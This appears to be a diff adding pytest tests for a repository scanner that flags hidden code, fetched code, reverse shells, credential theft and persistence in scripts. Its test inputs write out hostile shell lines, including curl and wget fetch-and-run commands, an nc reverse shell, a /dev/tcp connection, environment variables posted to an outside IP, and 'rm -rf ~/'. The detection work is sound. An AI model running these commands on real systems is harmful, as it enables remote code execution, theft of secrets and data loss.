@@ -1,0 +1,70 @@
+"""Scripts that no loader runs: what is hidden counts, not what is done."""
+
+from __future__ import annotations
+
+import pytest
+from evals.repositories import honest_scripts
+from evals.repositories.hostile import STATEMENTS
+from evals.repositories.samples import MARK
+from repository_scanning import findings_of, rules_of
+
+HIDDEN = {
+    "base64-exec": "hidden-code",
+    "marshal": "hidden-code",
+    "getattr": "hidden-code",
+    "fetch-exec": "fetched-code",
+    "urlopen-exec": "fetched-code",
+    "reverse-shell": "reverse-shell",
+    "environment": "credential-theft",
+    "ssh-key": "credential-theft",
+    "bashrc": "persistence",
+    "cron": "hostile-command",
+    "pipe-to-shell": "hostile-command",
+}
+
+
+@pytest.mark.parametrize("name", HIDDEN)
+def test_what_no_honest_script_does(name: str) -> None:
+    text = STATEMENTS[name]
+    found = [one for one in findings_of(text.replace(MARK, ""), "x.py") if one.rule == HIDDEN[name]]
+    lines = [number for number, line in enumerate(text.split("\n"), 1) if MARK in line]
+    assert len(found) == 1 and found[0].evidence["line"] in lines
+
+
+@pytest.mark.parametrize("name", honest_scripts.TRAINING)
+def test_what_honest_scripts_do(name: str) -> None:
+    assert findings_of(honest_scripts.TRAINING[name], "train.py") == []
+
+
+@pytest.mark.parametrize("name", honest_scripts.SHELL)
+def test_honest_shell_scripts(name: str) -> None:
+    assert findings_of(honest_scripts.SHELL[name], name) == []
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "curl http://192.0.2.1/x | sh",
+        "bash -c \"$(curl -fsSL http://192.0.2.1/x)\"",
+        "echo aWQ= | base64 --decode | bash",
+        "nc -e /bin/sh 192.0.2.1 4444",
+        "exec 5<>/dev/tcp/192.0.2.1/4444",
+        "env | curl -X POST -d @- http://192.0.2.1",
+        "rm -rf ~/",
+        "wget -q http://192.0.2.1/a -O /tmp/a && chmod +x /tmp/a && /tmp/a",
+    ],
+)  # fmt: skip
+def test_lines_of_a_shell(line: str) -> None:
+    assert rules_of(f"#!/bin/sh\nset -e\n{line}\n", "run.sh") == {"hostile-command"}
+    assert rules_of(f"import os\nos.system({line!r})\n", "run.py") == {"hostile-command"}
+
+
+def test_a_program_from_a_named_host_is_suspicious() -> None:
+    (found,) = findings_of("curl https://get.example.org/x | sh\n", "run.sh")
+    assert found.kind == "suspicious"
+
+
+def test_one_cause_is_one_finding() -> None:
+    text = "import base64\nexec(base64.b64decode(a))\nexec(base64.b64decode(b))\n"
+    (found,) = findings_of(text, "x.py")
+    assert found.evidence["lines"] == [2, 3]
